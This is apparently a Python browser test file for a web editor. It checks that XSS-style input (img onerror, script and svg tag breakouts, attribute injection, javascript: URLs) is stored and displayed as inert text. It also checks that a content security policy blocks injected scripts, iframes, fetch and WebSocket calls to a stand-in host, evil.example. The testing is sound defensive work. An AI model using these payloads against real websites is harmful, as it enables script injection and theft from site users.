"""Words that look like a program are words: they are shown, and never run."""

import json
import time

from tests.studio.studio_tab import NUMBER, PATIENCE, StudioTab

SENTENCE = "campaign:blocks.question.text"
RUN = "document.documentElement.dataset.run = 'yes'"
HOSTILE = [
    f'<img src=x onerror="{RUN}">',
    f"</svg><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f'" onfocus="{RUN}" autofocus x="',
    f"<svg onload={RUN}>",
    "{{ 7 * 7 }} {% raw %}",
    f"javascript:{RUN}",
    "&lt;b&gt; &amp; <b>bold</b>",
]
DID_RUN = "Boolean(document.documentElement.dataset.run)"


INJECTED = "main img[src='x'], main script, #pages img, svg[onload]"


def test_hostile_words_are_shown_as_text(studio: StudioTab) -> None:
    studio.edit("en-GB", "flyer-a5")
    words = " ".join(HOSTILE)
    studio.ask(f"{studio.input(SENTENCE)}.focus() || {studio.input(SENTENCE)}.select()")
    studio.tab.call("Input.insertText", text=words)
    studio.type(NUMBER, "<img src=x>")
    fault = f"{studio.field(NUMBER)}.querySelector('.fault')"
    studio.wait(f"!{fault}.hidden && {fault}.textContent.includes('<img src=x>')")
    drafts = studio.folder / ".cease/studio/drafts/1"
    end = time.monotonic() + PATIENCE
    while not any("onerror" in path.read_text() for path in drafts.glob("*.json")):
        assert time.monotonic() < end, "no draft was kept"
        time.sleep(0.1)
    studio.visit("/")
    assert not studio.ask(DID_RUN)
    assert studio.ask(f"document.querySelectorAll({json.dumps(INJECTED)}).length") == 0
    studio.edit("en-GB", "flyer-a5")
    assert studio.ask(f"{studio.input(SENTENCE)}.value") == words
    assert not studio.ask(DID_RUN)
    assert studio.ask(f"document.querySelectorAll({json.dumps(INJECTED)}).length") == 0


PUT = [
    f"document.body.insertAdjacentHTML('beforeend', `<img src=x onerror=\"{RUN}\">`)",
    f"document.body.append(Object.assign(document.createElement('script'), {{text: `{RUN}`}}))",
    "document.body.append(Object.assign(document.createElement('script'), "
    "{src: 'https://evil.example/a.js'}))",
    "document.body.insertAdjacentHTML('beforeend', '<iframe src=https://evil.example></iframe>')",
    "document.body.insertAdjacentHTML('beforeend', '<style>body{display:none}</style>')",
    "fetch('https://evil.example/').catch(() => 0)",
    "new WebSocket('ws://evil.example/').onerror = null",
]


def test_nothing_that_is_put_into_a_page_can_run(studio: StudioTab) -> None:
    studio.visit("/help")
    for put in PUT:
        studio.ask(
            "void (globalThis.stopped = new Promise((done) => "
            "document.addEventListener('securitypolicyviolation', "
            "(event) => done(event.effectiveDirective), {once: true})))"
        )
        studio.ask(f"void ({put})")
        stopped = studio.ask(
            "Promise.race([stopped, new Promise((done) => setTimeout(() => done(''), 60000))])"
        )
        assert stopped, put
    assert not studio.ask(DID_RUN)
